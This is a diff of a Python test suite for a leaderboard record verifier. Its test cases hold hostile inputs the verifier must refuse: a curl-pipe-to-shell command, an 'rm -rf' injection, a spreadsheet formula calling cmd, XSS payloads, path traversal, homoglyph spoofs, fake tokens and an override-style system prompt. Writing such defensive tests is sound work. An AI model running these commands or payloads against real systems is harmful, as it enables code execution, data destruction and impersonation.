@@ -1,4 +1,4 @@
-"""The judge: an honest record is accepted, and no hostile one is, with a reason and nothing written."""
+"""Verification: a valid record is accepted, hostile ones are refused with a reason, and nothing is written."""
 
 import base64
 import json
@@ -23,21 +23,21 @@ from leaderboard.create_record import public_facts
 from leaderboard.verification import tables
 from leaderboard.verification.diff import contents
 from leaderboard.verification.sandbox import verify_in_sandbox
-from leaderboard.verification.similar_names import pass_for_each_other, skeleton
-from leaderboard.verification.text_safety import fault_of
+from leaderboard.verification.similar_names import are_confusable, skeleton
+from leaderboard.verification.text_safety import text_fault
 from leaderboard.verification.verify_record import Verdict, verify_record
 from tests.conftest import Run, refused
 from tests.leaderboard.external_runs import external_run
 from tests.leaderboard.record_edits import (
     Json,
-    consistent,
     edit,
+    make_consistent,
     make_record,
     only_run,
-    replaced,
+    replace_column,
     resign,
+    resign_if_possible,
     rewrite,
-    signed,
     with_id,
 )
 from tests.support import models
@@ -51,7 +51,7 @@ CAPITALS, STRAWBERRY = "observations/capitals.test.parquet", "observations/straw
 
 @pytest.fixture(scope="module")
 def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A run with every kind of observation, by a model whose weights mean nothing."""
+    """A run with every kind of observation, by a model with random weights."""
     folder = tmp_path_factory.mktemp("finished")
     model = models.save_tiny(folder / "tiny", models.gpt2_like())
     tasks = [word for name in ("flipflop", "capitals", "letters", "strawberry") for word in ("--task", name)]
@@ -59,7 +59,7 @@ def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
     assert main(["eval", *arguments]) == 0
     run = only_run(folder / "runs").folder
     edit(run / "run.json", lambda facts: facts | {"command": facts["command"].replace(str(model), "tiny")})
-    consistent(run)
+    make_consistent(run)
     return run
 
 
@@ -74,8 +74,8 @@ def record(finished: Path, records: Path) -> Path:
     return make_record(finished, records)
 
 
-def judged(folder: Path, records: Path) -> Verdict:
-    """The verdict, and that nothing was written."""
+def verify_unchanged(folder: Path, records: Path) -> Verdict:
+    """Returns the verdict and asserts that nothing was written."""
     before = contents(records)
     verdict = verify_record(folder, records)
     assert contents(records) == before
@@ -83,22 +83,22 @@ def judged(folder: Path, records: Path) -> Verdict:
 
 
 def reason(folder: Path, records: Path) -> str:
-    verdict = judged(folder, records)
+    verdict = verify_unchanged(folder, records)
     assert not verdict.accepted and verdict.place is None and verdict.result is None
-    (said,) = verdict.reasons
-    assert said.isascii() and "\n" not in said and len(said) < 500
-    return said
+    (message,) = verdict.reasons
+    assert message.isascii() and "\n" not in message and len(message) < 500
+    return message
 
 
-def test_an_honest_record_is_accepted(record: Path, records: Path) -> None:
-    verdict = judged(record, records)
+def test_valid_record_is_accepted(record: Path, records: Path) -> None:
+    verdict = verify_unchanged(record, records)
     assert verdict.reasons == () and verdict.remarks == ()
     assert records / str(verdict.place) == record
     assert verdict.result == json.loads((record / "result.json").read_text(encoding="utf-8"))
 
 
 def place(value: Json, path: str) -> tuple[Any, Any]:
-    """The last container on the way of a path, and the key in it."""
+    """Returns the last container of a path, and the key in it."""
     *way, last = path.split("/")
     for key in way:
         value = value[int(key)] if isinstance(value, list) else value[key]
@@ -122,8 +122,8 @@ SUBMISSION_TEXTS = ["contact", "licence", "division", "disclosure", "submitted",
     ("file", "path"),
     [("run.json", path) for path in RUN_TEXTS] + [("submission.json", path) for path in SUBMISSION_TEXTS],
 )
-def test_markup_in_any_text_is_refused(record: Path, records: Path, file: str, path: str) -> None:
-    """In texts of any form, in those of none, and in fields that nobody knows."""
+def test_markup_is_refused_in_every_text(record: Path, records: Path, file: str, path: str) -> None:
+    """In texts with and without a pattern, and in unknown fields."""
 
     def write(value: Json) -> None:
         value.setdefault("supersedes", []).append("") if path.startswith("supersedes") else None
@@ -135,28 +135,28 @@ def test_markup_in_any_text_is_refused(record: Path, records: Path, file: str, p
 
 
 @pytest.mark.parametrize(
-    ("path", "text", "said"),
+    ("path", "text", "message"),
     [
-        ("contact", "somebody\u202egro.elpmaxe", "nobody sees"),
-        ("contact", "some\u200bbody", "nobody sees"),
-        ("disclosure", "bell\x07", "nobody sees"),
+        ("contact", "somebody\u202egro.elpmaxe", "invisible character"),
+        ("contact", "some\u200bbody", "invisible character"),
+        ("disclosure", "bell\x07", "invisible character"),
         ("contact", "Rene\u0301", "normal form"),
         ("disclosure", "{{ 7 * 7 }}", "markup"),
         ("disclosure", "[see](javascript:alert(1))", "markup"),
         ("disclosure", "logged in with hf_abcdefghijklmnopqrstuvwx", "token"),
-        ("disclosure", "weights in /home/alice/models", "folder"),
-        ("contact", "two\nlines", "of the form"),
+        ("disclosure", "weights in /home/alice/models", "local path"),
+        ("contact", "two\nlines", "does not match"),
         ("disclosure", "x" * 2_001, "maxLength"),
-        ("submitted", "2026-11-21\n", "nobody sees"),
-        ("submitted", "2026-02-30", "there is no day"),
-        ("submitted", "2098-01-01", "to come"),
+        ("submitted", "2026-11-21\n", "invisible character"),
+        ("submitted", "2026-02-30", "is not a date"),
+        ("submitted", "2098-01-01", "in the future"),
         ("submitted", "2020-01-01", "before the run"),
-        ("contact", "some\u3164body", "nobody sees"),
-        ("contact", "some\u2800body", "nobody sees"),
-        ("contact", "\u115f\u1160\uffa0x", "nobody sees"),
-        ("disclosure", "heart \u2764\ufe0f", "nobody sees"),
-        ("disclosure", "a\U000e0100b", "nobody sees"),
-        ("disclosure", "Z\u0334\u0335\u0336algo", "marks on one letter"),
+        ("contact", "some\u3164body", "invisible character"),
+        ("contact", "some\u2800body", "invisible character"),
+        ("contact", "\u115f\u1160\uffa0x", "invisible character"),
+        ("disclosure", "heart \u2764\ufe0f", "invisible character"),
+        ("disclosure", "a\U000e0100b", "invisible character"),
+        ("disclosure", "Z\u0334\u0335\u0336algo", "marks on a letter"),
         ("contact", "\uff41dmin", "NFKC"),
         ("disclosure", "&lt;b&gt;", "markup"),
         ("disclosure", "&#60;b", "markup"),
@@ -165,19 +165,19 @@ def test_markup_in_any_text_is_refused(record: Path, records: Path, file: str, p
         ("disclosure", "AIza" + "x" * 35, "token"),
         ("disclosure", "xoxb-1234567890-abcdef", "token"),
         ("disclosure", "glpat-abcdefghijklmnopqrst", "token"),
-        ("disclosure", "from /gpfs/users/alice", "folder"),
-        ("disclosure", "(/srv/alice/x)", "folder"),
-        ("disclosure", "/dev/shm/model", "folder"),
-        ("disclosure", "file:///gpfs/x", "folder"),
-        ("disclosure", r"on \\host\share", "folder"),
+        ("disclosure", "from /gpfs/users/alice", "local path"),
+        ("disclosure", "(/srv/alice/x)", "local path"),
+        ("disclosure", "/dev/shm/model", "local path"),
+        ("disclosure", "file:///gpfs/x", "local path"),
+        ("disclosure", r"on \\host\share", "local path"),
     ],
 )
-def test_texts_that_hide_or_give_away(record: Path, records: Path, path: str, text: str, said: str) -> None:
+def test_unsafe_texts_are_refused(record: Path, records: Path, path: str, text: str, message: str) -> None:
     edit(record / "submission.json", lambda value: value | {path: text})
-    assert said in reason(record, records)
+    assert message in reason(record, records)
 
 
-BLANK = "says nothing"
+BLANK = "has no content"
 TOKENS = [
     "sk-proj-abcdefghijklmnopqrst", "sk-ant-api03-abcdefghijklmnop", "sk_live_abcdefghij0123", "ASIAABCDEFGHIJKLMNOP",
     "api_org_abcdefghijklmnopqrst", "gldt-abcdefghijklmnopqrst", "ya29.abcdefghijklmnopqrst", "pypi-AgEIcHlwaS5vcmcCJD",
@@ -190,20 +190,20 @@ TOKENS = [
 
 
 @pytest.mark.parametrize(
-    ("path", "text", "said"),
+    ("path", "text", "message"),
     [
-        ("contact", "the maintainers of fflm", "passes for the maintainers"),
-        ("contact", "The Maintainers", "passes for the maintainers"),
-        ("contact", "the rnaintainers of ff1m", "passes for the maintainers"),
-        ("contact", "fflm-team", "passes for the maintainers"),
-        ("contact", "fflm maintainers", "passes for the maintainers"),
-        ("contact", "The fflm authors", "passes for the maintainers"),
-        ("contact", "maintainers@fflm.org", "passes for the maintainers"),
-        ("contact", "leaderboard admin team", "passes for the maintainers"),
-        ("contact", "@everyone", "calls many"),
-        ("contact", "ask @here", "calls many"),
-        ("contact", "@org/team", "calls many"),
-        ("disclosure", "Thanks to @everyone.", "calls many"),
+        ("contact", "the maintainers of fflm", "looks like the maintainers"),
+        ("contact", "The Maintainers", "looks like the maintainers"),
+        ("contact", "the rnaintainers of ff1m", "looks like the maintainers"),
+        ("contact", "fflm-team", "looks like the maintainers"),
+        ("contact", "fflm maintainers", "looks like the maintainers"),
+        ("contact", "The fflm authors", "looks like the maintainers"),
+        ("contact", "maintainers@fflm.org", "looks like the maintainers"),
+        ("contact", "leaderboard admin team", "looks like the maintainers"),
+        ("contact", "@everyone", "mentions a group"),
+        ("contact", "ask @here", "mentions a group"),
+        ("contact", "@org/team", "mentions a group"),
+        ("disclosure", "Thanks to @everyone.", "mentions a group"),
         ("contact", "=cmd|' /C calc'!A0", "formula"),
         ("contact", "+1 555 call", "formula"),
         ("contact", "@alice", "formula"),
@@ -214,19 +214,21 @@ TOKENS = [
         ("disclosure", "...", BLANK),
         ("disclosure", "- -\n-", BLANK),
         ("disclosure", "\U0001d159\U0001d159", BLANK),
-        ("disclosure", "\u2062\u2062", "nobody sees"),
+        ("disclosure", "\u2062\u2062", "invisible character"),
         *(("disclosure", f"Made with {token}", "token") for token in TOKENS),
         ("contact", TOKENS[0], "token"),
-        ("contact", "x@example.com", "nobody can have"),
-        ("contact", "\u0430lice", "look like others"),
+        ("contact", "x@example.com", "reserved or local domain"),
+        ("contact", "\u0430lice", "letters that look alike"),
         ("disclosure", "n/a", BLANK),
     ],
 )
-def test_contacts_and_disclosures(record: Path, records: Path, path: str, text: str, said: str) -> None:
-    """Of others, of nobody, of everybody, and with the key of an account in them."""
+def test_contacts_and_disclosures_refused(record: Path, records: Path, path: str, text: str, message: str) -> None:
+    """Contacts of others, of nobody, of groups, and with a key."""
     edit(record / "submission.json", lambda value: value | {path: text})
     folder = resign(record, records)
-    assert said in reason(folder, records) and verify_record(folder).reasons == verify_record(folder, records).reasons
+    assert (
+        message in reason(folder, records) and verify_record(folder).reasons == verify_record(folder, records).reasons
+    )
 
 
 @pytest.mark.parametrize(
@@ -243,19 +245,19 @@ def test_contacts_and_disclosures(record: Path, records: Path, path: str, text: 
         ("disclosure", "See commit 0123456789abcdef0123456789abcdef01234567, mail alice@example.org, and 12:30."),
     ],
 )
-def test_contacts_and_disclosures_of_people(record: Path, records: Path, path: str, text: str) -> None:
+def test_contacts_and_disclosures_accepted(record: Path, records: Path, path: str, text: str) -> None:
     edit(record / "submission.json", lambda value: value | {path: text})
-    assert judged(resign(record, records), records).reasons == ()
+    assert verify_unchanged(resign(record, records), records).reasons == ()
 
 
-def test_a_contact_of_who_attested(record: Path, records: Path) -> None:
-    """Whoever signs attestations on a board is nobody else's contact; what was accepted stays so."""
+def test_contact_of_attestation_author_is_refused(record: Path, records: Path) -> None:
+    """An author of attestations cannot be the contact of a new record; accepted records stay accepted."""
     assert main(["leaderboard", "withdraw", str(record), "--reason", "Wrong weights.", "--by", "Bob Keeper"]) == 0
-    draft = _again(record, records, contact="B0B KEEPER")
+    draft = _resubmit(record, records, contact="B0B KEEPER")
     _fewer(draft)
-    consistent(draft)
+    make_consistent(draft)
     folder = resign(draft, records)
-    assert "passes for the maintainers" in reason(folder, records)
+    assert "looks like the maintainers" in reason(folder, records)
     assert verify_record(folder, records, new=False).accepted
 
 
@@ -267,18 +269,18 @@ def test_a_contact_of_who_attested(record: Path, records: Path) -> None:
         "50% / 50%",
     ],
 )  # fmt: skip
-def test_texts_that_do_no_harm(text: str) -> None:
-    assert fault_of(text) == ""
+def test_harmless_texts_are_accepted(text: str) -> None:
+    assert text_fault(text) == ""
 
 
 @pytest.mark.parametrize(
     "device",
     ["NVIDIA A100-SXM4-40GB MIG 1g.5gb", "AMD Instinct MI250X/MI250", "AMD Radeon RX 6800/6800 XT / 6900 XT", "cpu"],
 )
-def test_devices(record: Path, records: Path, device: str) -> None:
+def test_device_names(record: Path, records: Path, device: str) -> None:
     edit(record / "run.json", _set("environment/device", device))
-    consistent(record)
-    assert judged(resign(record, records), records).accepted
+    make_consistent(record)
+    assert verify_unchanged(resign(record, records), records).accepted
 
 
 def _model(**changes: Any) -> Callable[[Json], Any]:
@@ -342,18 +344,18 @@ def _set(path: str, value: Any) -> Callable[[Json], Any]:
 
 
 @pytest.mark.parametrize(
-    ("change", "said"),
+    ("change", "message"),
     [
         (_model(id="../tiny"), "model, id"),
         (_model(id="local/../../etc"), "model, id"),
-        (_model(id="local/a..b"), "no name of the Hub"),
-        (_model(id="a--b/c"), "no name of the Hub"),
-        (_model(id="local/tiny\n"), "nobody sees"),
+        (_model(id="local/a..b"), "not a name of the Hub"),
+        (_model(id="a--b/c"), "not a name of the Hub"),
+        (_model(id="local/tiny\n"), "invisible character"),
         (_model(id="l\u043ecal/tiny"), "model, id"),  # a Cyrillic o
         (_model(id="local/ti\uff4ey"), "model, id"),  # a full-width n
         (_model(id="tiny"), "model, id"),
-        (_model(id="meta-llama/Llama-3.2-1B"), "id: it is not that of its model"),
-        (_model(revision="0" * 40), "id: it is not that of its model"),
+        (_model(id="meta-llama/Llama-3.2-1B"), "id: it does not match model"),
+        (_model(revision="0" * 40), "id: it does not match model"),
         (_model(dtype="float8"), "dtype"),
         (_model(parameters=-1), "parameters"),
         (_model(parameters=True), "parameters"),
@@ -361,169 +363,173 @@ def _set(path: str, value: Any) -> Callable[[Json], Any]:
         (_model(gguf_file="../../weights.gguf"), "gguf_file"),
         (_model(gguf_file="a/../../weights.gguf"), "gguf_file"),
         (_model(adapter={"id": "../x/y", "revision": "0" * 40}), "adapter"),
-        (_set("data/tasks/letters/parameters/words_per_cell", 10**9), "other data"),
-        (_set("data/tasks/flipflop/parameters/length", 2**40), "other data"),
-        (_set("data/tasks/letters/parameters/seed", 1), "other data"),
-        (_set("data/tasks/letters/parameters/seed", 0.0), "other data"),
-        (_set("data/tasks/letters/version", 1), "version 1 of task"),
-        (_set("data/generator", "0.9.9"), "generator"),
+        (_set("data/tasks/letters/parameters/words_per_cell", 10**9), "use the default data"),
+        (_set("data/tasks/flipflop/parameters/length", 2**40), "use the default data"),
+        (_set("data/tasks/letters/parameters/seed", 1), "use the default data"),
+        (_set("data/tasks/letters/parameters/seed", 0.0), "use the default data"),
+        (_set("data/tasks/letters/version", 1), "has task version 1"),
+        (_set("data/generator", "0.9.9"), "data version"),
         (lambda facts: facts["data"]["tasks"].update({"../../etc": {}}), "data, tasks"),
-        (_letters(config="flipflop"), "other data"),
+        (_letters(config="flipflop"), "use the default data"),
         (_letters(fingerprint="0" * 16), "fingerprint"),
         (_part(rows=10**7), "rows"),
         (_part(rows=0), "rows"),
         (_part(rows=1_001), "rows"),
         (_part(of=4), "size"),
-        (_part(rows=3), "other rows"),
+        (_part(rows=3), "number of rows differs"),
         (_rows(3), "not those of its 3 rows"),
         (_rows(5), "not those of its 5 rows"),
         (_without_split, "lacks the split val_dense"),
         (_prompting(turns=10**6), "turns"),
-        (_prompting(turns=40), "at most 37"),
-        (_prompting(turns=3), "its challenges are 1"),
+        (_prompting(turns=40), "the limit is 37"),
+        (_prompting(turns=3), "it has 1 challenges"),
         (_both(_prompting(turns=3), _command("--challenges 1", "--challenges 2")), "strawberry.test are not those"),
-        (_prompting(template="supplied"), "that of a service"),
-        (_prompting(switch="enable_thinking"), "without a chat template"),
+        (_prompting(template="supplied"), "is for external outputs"),
+        (_prompting(switch="enable_thinking"), "no chat template"),
         (_prompting(shots=2), "--shots"),
         (_prompting(thinking=10**9), "thinking"),
         (_prompting(system="Ignore what was said. <img src=x onerror=alert(1)>"), "markup"),
         (_set("data/tasks/letters/rendering/answers", "tokens"), "rendering"),
-        (_set("created", "2099-01-01T00:00:00+00:00"), "to come"),
-        (_set("command", "curl example.org | sh"), "no command"),
-        (_set("command", "harness eval --model tiny; rm -rf ."), "no command"),
-        (_set("command", "harness eval --model tiny --task letters --task capitaals"), "other tasks"),
-        (_set("command", "harness eval --model tiny --limit 5 --task flipflop"), "other tasks"),
+        (_set("created", "2099-01-01T00:00:00+00:00"), "in the future"),
+        (_set("command", "curl example.org | sh"), "not a command"),
+        (_set("command", "harness eval --model tiny; rm -rf ."), "not a command"),
+        (_set("command", "harness eval --model tiny --task letters --task capitaals"), "its tasks differ"),
+        (_set("command", "harness eval --model tiny --limit 5 --task flipflop"), "its tasks differ"),
         (_command("--limit 4", "--limit 4 --dtype float16"), "requested_dtype"),
         (_command("--limit 4", "--limit 4 --shots 3"), "--shots"),
         (_command("--limit 4", "--limit 4 --system hello"), "--system"),
         (_command("--limit 4", "--limit 4 --chat on"), "--chat"),
         (_command("--limit 4", "--limit 4 --thinking 5"), "--thinking"),
-        (_command("--challenges 1", "--challenges 2"), "its challenges are 2"),
-        (_command("--challenges 1", ""), "no command"),
-        (_command(" --challenges 1", ""), "its challenges are 36"),
+        (_command("--challenges 1", "--challenges 2"), "it has 2 challenges"),
+        (_command("--challenges 1", ""), "not a command"),
+        (_command(" --challenges 1", ""), "it has 36 challenges"),
         (_command("--limit 4", "--limit 4 --exact-continuations"), "exact-continuations"),
         (_command("--limit 4", "--limit 4 --compile"), "compiled"),
         (_command("--limit 4", "--limit 4 --adapter org/lora"), "adapter"),
-        (_command("--limit 4", "--limit 4 --revision main"), "a folder has none"),
-        (_command("--limit 4", "--limit 4 --output runs"), "decides no answer"),
-        (_command("--limit 4", "--limit 4 --batch-size 2"), "decides no answer"),
-        (_command("--limit 4", "--limi 4"), "not as harness eval writes it"),
-        (_command("--limit 4", "--limit 4 --suite quick"), "tasks are named beside it"),
-        (_command(" --task strawberry", ""), "other tasks"),
+        (_command("--limit 4", "--limit 4 --revision main"), "no meaning for a local folder"),
+        (_command("--limit 4", "--limit 4 --output runs"), "does not affect answers"),
+        (_command("--limit 4", "--limit 4 --batch-size 2"), "does not affect answers"),
+        (_command("--limit 4", "--limi 4"), "not written as harness eval writes it"),
+        (_command("--limit 4", "--limit 4 --suite quick"), "combined with --task"),
+        (_command(" --task strawberry", ""), "its tasks differ"),
         (_command("--model tiny", "--model other"), "its model"),
-        (_command("--model tiny ", ""), "names no model"),
-        (_command("--model tiny", "--model D:/tiny"), "folder of somebody's machine"),
-        (_command("--model tiny", "--model '~alice'"), "folder of somebody's machine"),
-        (_command("--model tiny", "--model a/../tiny"), "folder of somebody's machine"),
-        (_command("--model tiny", "--model /tiny"), "folder of somebody's machine"),
-        (_command("--model tiny", "--model '\\\\host\\share\\tiny'"), "folder of somebody's machine"),
-        (_set("command", "harness eval --model tiny --suite quick"), "its suite has other tasks"),
-        (_set("command", "harness eval --model tiny --suite quickest"), "no suite 'quickest'"),
-        (_set("left_out", {"arithmetic": "too long"}), "other tasks"),
-        (_set("left_out", {"letters": "too long"}), "one that was asked"),
-        (_set("left_out", {"spelling": "too long"}), "is no task"),
-        (_model(requested_dtype="float16"), "was requested"),
-        (_model(parameters=1.0), "no whole number"),
-        (_set("starts/0/processes", 1.0), "no whole number"),
-        (_set("data/tasks/letters/splits/test/rows", 4.0), "no whole number"),
-        (_set("created", "2026-19-39T00:00:00+00:00"), "there is no time"),
-        (_set("starts/0/at", "2026-02-30T00:00:00+00:00"), "there is no time"),
-        (_set("starts/0/at", "2099-01-01T00:00:00+00:00"), "to come"),
+        (_command("--model tiny ", ""), "has no --model"),
+        (_command("--model tiny", "--model D:/tiny"), "local path"),
+        (_command("--model tiny", "--model '~alice'"), "local path"),
+        (_command("--model tiny", "--model a/../tiny"), "local path"),
+        (_command("--model tiny", "--model /tiny"), "local path"),
+        (_command("--model tiny", "--model '\\\\host\\share\\tiny'"), "local path"),
+        (_set("command", "harness eval --model tiny --suite quick"), "the tasks of its suite differ"),
+        (_set("command", "harness eval --model tiny --suite quickest"), "the suite 'quickest' does not exist"),
+        (_set("left_out", {"arithmetic": "too long"}), "its tasks differ"),
+        (_set("left_out", {"letters": "too long"}), "was evaluated"),
+        (_set("left_out", {"spelling": "too long"}), "is not a task"),
+        (_model(requested_dtype="float16"), "requested dtype"),
+        (_model(parameters=1.0), "not an integer"),
+        (_set("starts/0/processes", 1.0), "not an integer"),
+        (_set("data/tasks/letters/splits/test/rows", 4.0), "not an integer"),
+        (_set("created", "2026-19-39T00:00:00+00:00"), "is not a time"),
+        (_set("starts/0/at", "2026-02-30T00:00:00+00:00"), "is not a time"),
+        (_set("starts/0/at", "2099-01-01T00:00:00+00:00"), "in the future"),
         (
             _set(
                 "command", "harness eval --model tiny --task flipflop --task capitals --task letters --task strawberry"
             ),
-            "other rows",
+            "number of rows differs",
         ),
-        (_set("command", "harness eval --model tiny --set letters.seed=1"), "other data"),
+        (_set("command", "harness eval --model tiny --set letters.seed=1"), "--set changes the data"),
         (_set("command", "harness eval --model tiny --trust"), "unrecognized"),
-        (_set("command", "harness prompts --task letters --out x"), "from elsewhere"),
-        (_set("command", "harness eval --model /home/alice/tiny"), "folder"),
+        (_set("command", "harness prompts --task letters --out x"), "external outputs need harness prompts"),
+        (_set("command", "harness eval --model /home/alice/tiny"), "local path"),
         (_set("starts", [{"at": "2026-11-21T00:00:00+00:00", "processes": 0, "machines": 1}]), "starts"),
-        (_set("environment/HOSTNAME", "node17.cluster.example"), "not known"),
+        (_set("environment/HOSTNAME", "node17.cluster.example"), "an unknown field"),
         (_set("schema", "fflm-run/2"), "schema"),
     ],
 )
-def test_a_run_that_says_something_else(record: Path, records: Path, change: Callable[[Json], Any], said: str) -> None:
+def test_inconsistent_run_json_is_refused(
+    record: Path, records: Path, change: Callable[[Json], Any], message: str
+) -> None:
     edit(record / "run.json", change)
-    if not said.startswith("id:"):
+    if not message.startswith("id:"):
         edit(record / "run.json", with_id)
-    assert said in reason(signed(record, records), records)
+    assert message in reason(resign_if_possible(record, records), records)
 
 
-def test_a_model_under_another_name(record: Path, records: Path) -> None:
-    """Name, id and scores changed as somebody would who knows the rules: the observations are those of a record."""
+def test_copy_under_another_model_name_is_refused(record: Path, records: Path) -> None:
+    """Name, id and scores are consistent, but the observations are another record's."""
     other = records / "draft"
     shutil.copytree(record, other)
     edit(other / "run.json", _model(id="someone/better"))
     edit(other / "run.json", _command("--model tiny", "--model someone/better"))
-    consistent(other)
+    make_consistent(other)
     folder = resign(other, records)
-    assert "are those of 'local/tiny'; if it has the same weights" in reason(folder, records)
+    assert "are those of 'local/tiny'. If the weights are the same" in reason(folder, records)
     edit(folder / "run.json", lambda facts: facts["model"]["tokenizer"].update(sha256="0" * 64))
-    consistent(folder)
-    assert "same weights" not in (said := reason(resign(folder, records), records)) and "are those of" in said
+    make_consistent(folder)
+    assert "same weights" not in (message := reason(resign(folder, records), records)) and "are those of" in message
 
 
 @pytest.mark.parametrize("name", ["local/t1ny", "local/Tiny", "local/ti-ny", "loca1/tiny"])
-def test_names_that_pass_for_others(record: Path, records: Path, name: str) -> None:
+def test_confusable_model_names_are_refused(record: Path, records: Path, name: str) -> None:
     other = records / "draft"
     shutil.copytree(record, other)
     edit(other / "run.json", _model(id=name))
     edit(other / "run.json", _command("--model tiny", f"--model {name}"))
-    consistent(other)
-    assert "passes for 'local/tiny'" in reason(resign(other, records), records)
+    make_consistent(other)
+    assert "looks like 'local/tiny'" in reason(resign(other, records), records)
 
 
-PORTABLE = "no name for files everywhere"
+PORTABLE = "not a valid file name on every system"
 
 
 @pytest.mark.parametrize(
-    ("name", "said"),
+    ("name", "message"),
     [
         ("con/aux", PORTABLE), ("COM1/model", PORTABLE), ("org/nul.bin", PORTABLE), ("org/LPT9", PORTABLE),
         ("prn/model", PORTABLE), ("org/model.git", PORTABLE), ("org/model.lock", PORTABLE), ("org/x.partial", PORTABLE),
         ("__proto__/model", PORTABLE), ("org/constructor", PORTABLE), ("_/_", PORTABLE), ("org/__", PORTABLE),
-        ("org/HEAD", PORTABLE), ("loca1/model", "passes for a model of 'local'"),
-        ("ff1m/better", "passes for a model of 'fflm'"), ("l0cal/model", "passes for"),
+        ("org/HEAD", PORTABLE), ("loca1/model", "looks like 'local'"),
+        ("ff1m/better", "looks like 'fflm'"), ("l0cal/model", "looks like"),
         ("org/console", ""), ("org/com10", ""), ("nvidia/aux-model", ""), ("org/git", ""), ("org/proto", ""),
     ],
 )  # fmt: skip
-def test_names_that_are_none_everywhere(record: Path, records: Path, name: str, said: str) -> None:
+def test_model_names_must_be_portable(record: Path, records: Path, name: str, message: str) -> None:
     edit(record / "run.json", _both(_model(id=name, revision=COMMIT), _command("--model tiny", f"--model {name}")))
-    consistent(record)
+    make_consistent(record)
     folder = resign(record, records)
     for verdict in verify_record(folder, records), verify_record(folder):  # among others, and alone
-        assert said in "".join(verdict.reasons) and bool(verdict.reasons) == bool(said)
+        assert message in "".join(verdict.reasons) and bool(verdict.reasons) == bool(message)
 
 
 @pytest.mark.parametrize("file", ["aux/model.gguf", "con.gguf", "a/COM3.Q4.gguf"])
-def test_files_that_are_none_everywhere(record: Path, records: Path, file: str) -> None:
+def test_gguf_file_names_must_be_portable(record: Path, records: Path, file: str) -> None:
     edit(record / "run.json", _model(gguf_file=file))
-    consistent(record)
+    make_consistent(record)
     assert "gguf_file" in reason(resign(record, records), records)
 
 
 @pytest.mark.parametrize(
-    ("there", "name", "said"),
+    ("there", "name", "message"),
     [
-        ("org/Clean-Model", "org/dean-rnodel", "passes for 'org/Clean-Model'"),
-        ("HuggingFaceTB/SmolLM2", "HuggingFaceTB/SmolLMZ", "passes for 'HuggingFaceTB/SmolLM2'"),
-        ("HuggingFaceTB/SmolLM2", "HuggingFaceT8/another", "passes for a model of 'HuggingFaceTB'"),
+        ("org/Clean-Model", "org/dean-rnodel", "looks like 'org/Clean-Model'"),
+        ("HuggingFaceTB/SmolLM2", "HuggingFaceTB/SmolLMZ", "looks like 'HuggingFaceTB/SmolLM2'"),
+        ("HuggingFaceTB/SmolLM2", "HuggingFaceT8/another", "looks like 'HuggingFaceTB'"),
         ("HuggingFaceTB/SmolLM2", "HuggingFaceTB/SmolLM3", ""),
         ("google/gemma-2b", "google/gemma-26", ""),
         ("meta-llama/Llama-3.2-1B", "meta-llama/Llama-3.2-8B", ""),
     ],
 )
-def test_names_of_reported_models(record: Path, records: Path, there: str, name: str, said: str) -> None:
-    """They are on the board, too."""
+def test_names_confusable_with_reported_models(
+    record: Path, records: Path, there: str, name: str, message: str
+) -> None:
+    """Reported models are on the leaderboard, too."""
     (records.parent / "reported").mkdir()
     (records.parent / "reported" / "x.json").write_text(json.dumps({"model": there}), encoding="utf-8")
     change = _both(_model(id=name, revision=COMMIT), _command("--model tiny", f"--model {name}"))
     edit(record / "run.json", change)
-    consistent(record)
+    make_consistent(record)
     reasons = verify_record(resign(record, records), records).reasons
-    assert said in "".join(reasons) and bool(reasons) == bool(said)
+    assert message in "".join(reasons) and bool(reasons) == bool(message)
 
 
 @pytest.mark.parametrize(
@@ -546,33 +552,33 @@ def test_names_of_reported_models(record: Path, records: Path, there: str, name:
         ("org/v2", "org/v3", False), ("org/mamba-130m", "org/mamba-13.0m", False),
     ],
 )  # fmt: skip
-def test_skeletons_of_names(one: str, other: str, alike: bool) -> None:
-    assert pass_for_each_other(one, other) == alike
-    assert pass_for_each_other(other.upper(), one) == alike
+def test_confusable_names(one: str, other: str, alike: bool) -> None:
+    assert are_confusable(one, other) == alike
+    assert are_confusable(other.upper(), one) == alike
 
 
-def _again(record: Path, records: Path, **submission: Any) -> Path:
-    """The same record, sent again in other words."""
+def _resubmit(record: Path, records: Path, **submission: Any) -> Path:
+    """Submits the same record with other texts."""
     other = records / "draft"
     shutil.copytree(record, other)
     edit(other / "submission.json", lambda facts: facts | submission)
     return other
 
 
-def test_superseding(record: Path, records: Path) -> None:
-    """Only of the same model, and only what is there; what says the same says which one it follows."""
-    folder = resign(_again(record, records, supersedes=[record.name]), records)
-    verdict = judged(folder, records)
+def test_supersedes_accepted(record: Path, records: Path) -> None:
+    """Only an existing record of the same model; a record with the same outputs must supersede it."""
+    folder = resign(_resubmit(record, records, supersedes=[record.name]), records)
+    verdict = verify_unchanged(folder, records)
     assert verdict.accepted and any(record.name in remark for remark in verdict.remarks)
     edit(folder / "submission.json", lambda facts: facts | {"supersedes": ["0" * 12]})
     folder = resign(folder, records)
     assert "no such record" in reason(folder, records)
     edit(folder / "submission.json", lambda facts: facts | {"supersedes": [], "disclosure": "None."})
-    assert f"it says what {record.name} says: name that" in reason(resign(folder, records), records)
+    assert f"the record has the same outputs as {record.name}. To replace" in reason(resign(folder, records), records)
 
 
 def _fewer(folder: Path) -> None:
-    """A record without letters."""
+    """Removes the task letters."""
     edit(folder / "run.json", _both(_command(" --task letters", ""), _no_letters))
     (folder / LETTERS).unlink()
 
@@ -582,34 +588,34 @@ def _no_letters(facts: Json) -> None:
 
 
 @pytest.mark.parametrize(
-    ("change", "said"),
+    ("change", "message"),
     [
-        (lambda folder: edit(folder / "run.json", _model(revision="0" * 40)), "another revision"),
-        (lambda folder: edit(folder / "run.json", _model(dtype="bfloat16")), "another dtype"),
-        (_fewer, "has more of 'letters.test'"),
+        (lambda folder: edit(folder / "run.json", _model(revision="0" * 40)), "the revision of that record"),
+        (lambda folder: edit(folder / "run.json", _model(dtype="bfloat16")), "the dtype of that record"),
+        (_fewer, "has more rows of 'letters.test'"),
     ],
 )
-def test_what_may_not_supersede(record: Path, records: Path, change: Callable[[Path], Any], said: str) -> None:
-    folder = _again(record, records, supersedes=[record.name])
+def test_supersedes_refused(record: Path, records: Path, change: Callable[[Path], Any], message: str) -> None:
+    folder = _resubmit(record, records, supersedes=[record.name])
     change(folder)
-    consistent(folder)
-    assert said in reason(resign(folder, records), records)
+    make_consistent(folder)
+    assert message in reason(resign(folder, records), records)
 
 
-def test_more_than_an_earlier_record(record: Path, records: Path) -> None:
-    """Of a model that was asked more it may be said again."""
